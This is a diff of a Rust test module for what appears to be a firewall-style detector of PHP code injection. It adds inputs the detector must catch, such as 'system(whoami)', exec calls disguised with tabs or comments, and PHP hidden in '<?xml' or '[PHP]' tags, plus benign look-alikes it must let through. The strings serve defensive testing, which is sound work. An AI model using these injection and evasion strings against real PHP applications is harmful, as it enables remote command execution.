@@ -2552,9 +3265,34 @@ mod tests {
             "symlink//c\n()",
             "checkdate/*x*/()",
             "unserialize(foo)",
+            "engine=true",
+            "precision=On",
+            "FOOcall_user_func()",
+            "FOOGzInFlAtE()",
+            "is_array()",
+            "exec  (blah)",
+            "exec\t(blah)",
+            "exec #comment\n (blah)",
+            "FILE\r\n()",
+            "system(whoami)",
+            "<?xml :echo 1;",
+            "<?xml\t:system('ls');",
+            "<?xml:echo 1;",
+            "test<?",
+            "[php]echo \"test\"",
+            "[PHP]system('whoami');[/PHP]",
+            "echo \"test\"{/php}",
         ] {
             assert!(php(a, &c).is_some(), "missed {a:?}");
         }
+        let h = cx(Kind::Header, "header.X.Filename");
+        for a in ["a.php", "dangerous.phpt", "sess_1234567890abcdefghij"] {
+            assert!(php(a, &h).is_some(), "missed header {a:?}");
+        }
+        assert_eq!(
+            php("a.php", &cx(Kind::Header, "header.X-Forwarded-For")),
+            None
+        );
         for b in [
             "engine=v8",
             "memory = 512M",
@@ -2565,6 +3303,17 @@ mod tests {
             "get_user(id)",
             "fopen (the file) first, then read it",
             "Use substr() to cut the string, see the manual",
+            "engine=v8",
+            "precision=high",
+            "file (1).txt",
+            "System (new)",
+            "<?xml version=\"1.0\"?><a/>",
+            "<?xml  version='1.0'?>",
+            "<?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?>",
+            "<?xml?>",
+            "See the [php] tag for snippets",
+            "Wrap code in [php]...[/php] please",
+            "my_call_user_function()",
         ] {
             assert_eq!(php(b, &c), None, "flagged {b:?}");
         }
